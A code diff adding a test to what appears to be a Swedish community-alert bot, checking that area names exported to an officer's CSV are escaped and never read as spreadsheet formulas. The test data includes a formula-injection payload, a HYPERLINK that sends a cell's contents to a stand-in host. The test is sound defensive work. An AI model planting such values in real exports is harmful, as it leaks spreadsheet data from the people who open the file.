@@ -3,8 +3,12 @@ failed on the code before its fix."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 from handlers.witness_buttons import WitnessContact
-from tests.alerts_helpers import make_police
+from storage import groups as group_store
+from tests.alerts_helpers import compose_alert, make_police, register_groups, text_of
 from tests.test_witness_relay_e2e import _card, _forwarded, _world
 
 
@@ -35,3 +39,27 @@ async def test_a_person_in_a_contact_cannot_be_drawn_into_a_second_one_on_the_ot
     await emu.send_text(pelle, "Tack Rut, vilken färg hade bilen?")
     await emu.wait_for_message(rut.id, lambda m: "vilken färg" in m.text, after=n_rut)
     assert all("vilken färg" not in m.text for m in emu.sent_messages(per.id)[n_per:])
+
+
+async def test_group_names_in_the_figures_csv_are_never_read_as_formulas(bot):
+    """A coordinator names the area "=HYPERLINK(…)": the officer's CSV of an alert's
+    figures shows it as text (as the observation export does), never as a formula."""
+    emu = bot.emu
+    officer = emu.add_user("Olle", language_code="sv")
+    chats = [emu.add_group(n, bot_is_member=True) for n in ("Norr", "Söder", "Väster")]
+    ids = await register_groups(bot, chats)
+    names = ['=HYPERLINK("http://x.example/?"&A1;"Klicka")', "+46 Torget", "@Kyrkan"]
+    for group_id, name in zip(ids, names, strict=True):
+        await group_store.rename_area(bot.services.db, group_id, name, bot.services.clock.now())
+    await make_police(bot, officer)
+    confirm = await compose_alert(emu, officer, "Inbrott i källarförråd")
+    await text_of(emu, confirm, "Levererat:")
+    await emu.send_text(officer, "/larmlista")
+    listing = await emu.wait_for_message(officer.id)
+    await emu.press_button(officer, listing, text="📊 Per grupp #1")
+    figures = await emu.wait_for_message(officer.id, lambda m: "per grupp" in m.text)
+    assert names[0] in figures.text  # the message shows the name as it is
+    await emu.press_button(officer, figures, text="📄 CSV")
+    document = await emu.wait_for_message(officer.id, lambda m: m.kind == "document")
+    rows = list(csv.reader(io.StringIO(document.document.decode("utf-8-sig"))))
+    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in names)
